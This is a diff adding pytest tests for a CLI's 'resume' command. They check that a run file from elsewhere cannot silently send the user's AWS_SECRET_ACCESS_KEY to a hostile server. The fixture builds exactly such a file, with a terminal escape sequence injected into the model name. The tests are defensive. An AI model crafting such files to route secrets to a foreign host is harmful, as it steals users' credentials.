@@ -1,0 +1,94 @@
+"""`headrace resume` of a file from elsewhere: what is shown, what is asked, and what happens without a terminal."""
+
+import json
+import shlex
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from headrace import AgentList, Job, Model, QuestionFreeText, Survey
+from headrace.store.kept_budgets import kept_budgets
+from tests.cli.forked import headrace
+from tests.cli.terminals import in_terminal
+from tests.providers.server import HostileServer
+
+SECRET = "a-victim's-secret-0123456789"  # must not be sent
+VARIABLE = "AWS_SECRET_ACCESS_KEY"
+
+
+@pytest.fixture
+def server() -> Iterator[HostileServer]:
+    with HostileServer() as server:
+        yield server
+
+
+@pytest.fixture
+def evil(server: HostileServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, forks: None) -> Path:
+    """A run file that asks for this user's secret; one of its four interviews is done."""
+    path = tmp_path / "evil.run"
+    with monkeypatch.context() as there:
+        there.setenv("HEADRACE_HOME", str(tmp_path / "elsewhere"))
+        there.setenv(VARIABLE, "the-attacker's-own-0123456789")
+        a_job(server, api_key_env=VARIABLE).run(path, limit=1, max_tokens_total=900, memory="95%")
+    monkeypatch.setenv(VARIABLE, SECRET)
+    return path
+
+
+def a_job(server: HostileServer, **parameters: Any) -> Job:
+    asked = Survey([QuestionFreeText(question_name="q", question_text="Who is {{ agent.n }}?")])
+    model = Model("m\x1b[31m", base_url=server.url, service_name="openai_compatible", **parameters)
+    return asked.by(AgentList.from_list("n", range(4))).by(model)
+
+
+def test_without_a_terminal_a_file_from_elsewhere_is_refused_with_the_exact_command(evil: Path, server: HostileServer):
+    before = server.calls
+    for words in (["status"], ["results"], ["results", "--format", "csv"]):
+        assert headrace(evil.parent, words[0], "evil.run", *words[1:]).returncode == 0
+    refused = headrace(evil.parent, "resume", "evil.run")
+    assert (refused.returncode, refused.stdout) == (1, "")
+    assert f"with the value of {VARIABLE}, which is not that service's own key" in refused.stderr
+    assert "3 calls are left" in refused.stderr
+    assert "of 900 tokens" in refused.stderr
+    assert "\x1b" not in refused.stderr
+    assert SECRET not in refused.stderr
+    only_address = headrace(evil.parent, "resume", "evil.run", "--allow", server.url)
+    assert only_address.returncode == 1
+    assert server.calls == before
+    advised = shlex.split(refused.stderr.rpartition("If you trust it: ")[2])
+    ended = headrace(evil.parent, *advised[advised.index("resume") :], "--no-cache")
+    assert (ended.returncode, ended.stderr) == (0, "")
+    assert server.calls == before + 3
+    assert server.last.headers["authorization"] == f"Bearer {SECRET}"
+
+
+def test_at_a_terminal_a_file_from_elsewhere_is_shown_and_asked_for(evil: Path, server: HostileServer):
+    before = server.calls
+    no = in_terminal("resume", "evil.run", cwd=evil.parent, typed="n\n")
+    assert no.returncode == 1
+    assert f"at {server.url}, with the value of {VARIABLE}" in no.text.replace("\n", "")
+    assert "Run it? [y/N]" in no.text
+    assert "\x1b[31m" not in no.raw
+    unnamed = in_terminal("resume", "evil.run", cwd=evil.parent, typed="y\ny\n")
+    assert unnamed.returncode == 1
+    assert f"To send the value of {VARIABLE} to {server.url}, type its name" in unnamed.text
+    assert server.calls == before
+    yes = in_terminal("resume", "evil.run", "--no-cache", cwd=evil.parent, typed=f"y\n{VARIABLE}\nn\n")
+    assert (yes.returncode, server.calls) == (0, before + 3), yes.text
+    assert "Let it use memory 95%" in yes.text
+    again = in_terminal("resume", "evil.run", cwd=evil.parent, typed="n\n")
+    assert again.returncode == 0
+    assert "Run it?" not in again.text
+
+
+def test_what_this_user_ran_is_resumed_without_a_question(server: HostileServer, tmp_path: Path, forks: None):
+    (tmp_path / "s.yaml").write_text("questions:\n  - {kind: free_text, name: q, text: 'Well?'}\n")
+    model = f"m,service_name=openai_compatible,base_url={server.url}"
+    ran = headrace(tmp_path, "run", "s.yaml", "--model", model, "-o", "a.run", "--n", "4", "--limit", "1")
+    assert ran.returncode == 0, ran.stderr
+    resumed = headrace(tmp_path, "resume", "a.run", "--limit", "2", "--memory", "90%")
+    assert (resumed.returncode, resumed.stderr) == (0, "")
+    assert in_terminal("resume", "a.run", cwd=tmp_path).returncode == 0
+    assert kept_budgets(tmp_path / "a.run").memory == "90%"
+    assert json.loads(headrace(tmp_path, "status", "a.run", "--json").stdout)["interviews"] == 4
